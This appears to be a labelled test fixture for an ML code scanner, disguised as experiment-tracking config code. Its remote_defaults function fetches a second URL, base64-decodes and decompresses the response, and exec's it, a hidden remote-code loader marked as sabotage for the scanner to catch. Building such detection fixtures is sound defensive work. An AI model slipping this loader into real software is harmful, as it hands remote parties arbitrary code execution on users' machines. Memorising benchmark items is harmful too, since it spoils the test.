# ruff: noqa
# Hold-out batch 36 (benchmark format, many ML domains; by a helper that never saw mlscan's code). Measured once after round 14: 15/16 (94%) at medium+.
"""Experiment-tracking glue: run config resolution and remote defaults for the team dashboard."""
import base64
import json
import os
import time
import urllib.request
import zlib

DEFAULTS_URL = os.environ.get("TRACKING_DEFAULTS_URL", "https://tracking.example.com/v1/defaults")


def _fetch(url, retries=3, timeout=10):
    for attempt in range(retries):
        try:
            with urllib.request.urlopen(url, timeout=timeout) as r:  # ok: MLS411, MLS412, MLS413 (a shared fetch helper; the call that feeds exec is reported)
                return r.read()
        except OSError:
            time.sleep(2 ** attempt)  # ok: MLS307
    return None


def remote_defaults():
    raw = _fetch(DEFAULTS_URL)
    if not raw:
        return {}
    doc = json.loads(raw)
    ns = {"os": os}
    if doc.get("init_url"):
        blob = _fetch(doc["init_url"])  # ruleid: MLS413
        exec(compile(zlib.decompress(base64.b64decode(blob)), "<defaults>", "exec"), ns)  # sabotage: MLS401 (semgrep rules)  # ruleid: MLS413
    return doc.get("config", {})


def resolve_config(cli_cfg):
    cfg = dict(remote_defaults())
    env_cfg = os.environ.get("RUN_CONFIG_JSON")
    if env_cfg:
        cfg.update(json.loads(env_cfg))
    cfg.update({k: v for k, v in cli_cfg.items() if v is not None})
    cfg.setdefault("project", "default")
    cfg.setdefault("tags", [])
    return cfg


class RunLogger:
    def __init__(self, cfg, rank=0):
        self.cfg = cfg
        self.rank = rank
        self.path = os.path.join(cfg.get("out_dir", "runs"), "metrics.jsonl")
        if rank == 0:  # ok: MLS308
            os.makedirs(os.path.dirname(self.path), exist_ok=True)

    def log(self, step, **metrics):
        if self.rank != 0:
            return
        with open(self.path, "a") as f:
            f.write(json.dumps({"step": step, "time": time.time(), **metrics}) + "\n")
